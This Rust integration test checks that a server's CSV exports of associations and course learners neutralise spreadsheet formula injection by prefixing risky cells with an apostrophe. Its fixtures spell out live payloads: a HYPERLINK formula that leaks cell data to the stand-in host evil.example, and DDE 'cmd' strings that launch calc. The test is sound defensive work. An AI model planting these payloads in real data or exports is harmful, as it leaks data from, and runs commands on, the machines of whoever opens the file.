//! Finding 2: every text cell of every CSV the server writes is never read as a formula.

use madani_shared::auth::UpdateMeRequest;
use madani_shared::endpoints::{Enrol, UpdateMe};
use madani_tests::{AssociationBuilder, CourseBuilder, both_backends};

use super::*;

both_backends! {
    // A name `=HYPERLINK(…)`, an acronym `@SUM(…)`, phones `+1+1` and `-2`, a registration
    // number `-2019-0042`: in the directory export each comes out behind an apostrophe, and no
    // cell of it starts a formula; the learners' export does the same with names.
    async fn csv_exports_never_write_a_cell_a_spreadsheet_would_run(app) {
        let owner = app.member("owner@example.org").await;
        let link = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
        AssociationBuilder::new(&owner).name_fr(link).phone("+1+1", true).expect_build(&app).await;
        let mut acronym = AssociationBuilder::new(&owner).name_fr("Plain name").registration("-2019-0042").phone("-2", true);
        acronym = acronym.name_ar("@SUM(1+1)*cmd|' /C calc'!A0");
        acronym.expect_build(&app).await;

        let response = app.http.get(app.url("/api/v1/associations/export?format=csv")).send().await.unwrap();
        assert_eq!(response.status(), 200);
        let text = response.text().await.unwrap();
        let rows = csv_rows(&text);
        assert_eq!(rows.len(), 3, "{text}");
        let header = &rows[0];
        assert_eq!(header.join(","), "id,registration_number,name_ar,name_fr,name_en,acronym,category,fields,wilaya_code,commune_id,size,status,email,phone,website,created_at", "the columns stay");
        let col = |name: &str| header.iter().position(|h| h == name).unwrap();
        let row = |name_fr: &str| rows.iter().find(|r| r[col("name_fr")].ends_with(name_fr)).unwrap_or_else(|| panic!("{name_fr}: {text}"));
        let evil = row(link);
        assert_eq!(evil[col("name_fr")], format!("'{link}"));
        assert_eq!(evil[col("phone")], "'+1+1");
        let plain = row("Plain name");
        assert_eq!(plain[col("phone")], "'-2");
        assert_eq!(plain[col("registration_number")], "'-2019-0042");
        assert_eq!(plain[col("name_ar")], "'@SUM(1+1)*cmd|' /C calc'!A0");
        for cell in rows.iter().flatten() {
            assert!(!is_formula(cell), "a formula cell: {cell:?} in {text}");
        }
        // The quoting still holds: the link's quotes are doubled inside a quoted cell.
        assert!(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\""), "{text}");

        // The learners' export: a display name that is a formula.
        let staff = app.admin("staff@example.org").await;
        let course = CourseBuilder::new(&staff).module("M", |m| m.text_lesson("L", true)).published().expect_build(&app).await;
        let learner = app.member("learner@example.org").await;
        let rename = UpdateMeRequest { display_name: Some("-1+2+cmd|' /C calc'!A0".into()), preferred_language: None };
        app.as_user(&learner).call::<UpdateMe>((), &rename).await.unwrap();
        app.as_user(&learner).call::<Enrol>(course.id(), &()).await.unwrap();
        let path = format!("/api/v1/courses/{}/learners/export", course.id());
        let response = app.http.get(app.url(&path)).bearer_auth(&staff.access_token).send().await.unwrap();
        assert_eq!(response.status(), 200);
        let text = response.text().await.unwrap();
        let rows = csv_rows(text.trim_start_matches('\u{feff}'));
        assert_eq!(rows[0].join(","), "name,enrolled_at,completed_lessons,total_lessons,percent,completed_at");
        assert_eq!(rows[1][0], "'-1+2+cmd|' /C calc'!A0", "{text}");
        assert_eq!(rows[1][2..5].join(","), "0,1,0", "counts stay numbers: {text}");
        for cell in rows.iter().flatten() {
            assert!(!is_formula(cell), "a formula cell: {cell:?} in {text}");
        }
    }
}
